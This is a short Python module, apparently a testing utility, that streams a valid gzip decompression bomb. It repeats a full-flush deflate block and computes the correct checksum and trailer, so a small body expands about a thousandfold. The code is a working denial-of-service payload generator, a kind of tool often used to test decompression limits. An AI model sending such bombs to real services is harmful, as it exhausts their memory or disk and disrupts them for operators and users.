"""Small bodies that grow enormous when expanded, made piece by piece: memory stays bounded.

Deflate blocks that end in a full flush do not refer to what came before, so one compressed
mebibyte can be repeated as often as wished; only the checksum has to be carried along.
"""

from __future__ import annotations

import struct
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

MEBIBYTE = 1 << 20
_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
_LAST_BLOCK = b"\x03\x00"  # an empty block with the "this is the end" bit


def _deflated(block: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)


def gzip_bomb(mebibytes: int, block: bytes = bytes(MEBIBYTE)) -> Iterator[bytes]:
    """A valid gzip stream of `mebibytes` times `block`: about a thousandth of its expanded size."""
    yield _GZIP_HEAD
    packed, checksum = _deflated(block), 0
    for _ in range(mebibytes):
        checksum = zlib.crc32(block, checksum)
        yield packed
    size = mebibytes * len(block)
    yield _LAST_BLOCK + struct.pack("<LL", checksum, size & 0xFFFFFFFF)
